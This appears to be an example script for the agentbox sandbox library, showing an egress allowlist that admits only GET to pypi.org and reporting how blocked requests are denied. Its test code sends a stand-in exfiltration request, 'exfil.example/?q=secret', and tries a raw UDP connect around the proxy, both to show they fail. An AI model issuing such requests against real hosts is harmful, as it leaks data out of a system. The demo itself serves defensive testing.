"""Governed egress (docs/egress.md): what a sandbox may reach, and what it
is told when it may not. Runs offline: nothing here needs the network, and
nothing leaves the machine (the one allowed host is never resolved unless
you are online).

    AGENTBOX_BIN=build PYTHONPATH=python /usr/bin/python3 examples/egress.py
"""
import json

from agentbox import Sandbox

# The sandbox may GET from pypi.org and nothing else.
with Sandbox(network=[{"host": "pypi.org", "methods": ["GET"]}]) as box:
    print("rules:", json.dumps(box.network))
    r = box.run("""
import json, os, urllib.error, urllib.request
print("proxy:", os.environ["HTTPS_PROXY"])
try:
    urllib.request.urlopen("http://exfil.example/?q=secret", timeout=10)
except urllib.error.HTTPError as e:
    # The sidecar's answer is written for an agent to act on.
    body = json.loads(e.read())
    print(e.code, e.headers["X-Agentbox-Denied"], "-", body["reason"])
    print("how to ask:", body["how_to_ask"])
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.connect(("192.0.2.1", 53))  # a UDP connect sends nothing; it needs a route
except OSError as e:
    print("ignoring the proxy:", e.strerror)
""")
    print(r.stdout + r.stderr, end="")
    # Asking for more: with no policy file and no operator, it stays pending.
    print("request_access:", box.request_access("exfil.example", reason="demo", timeout=0))
    for e in box.egress_status().get("policy", {}).get("allow", []):
        print("allowed:", e["id"], e["host"])
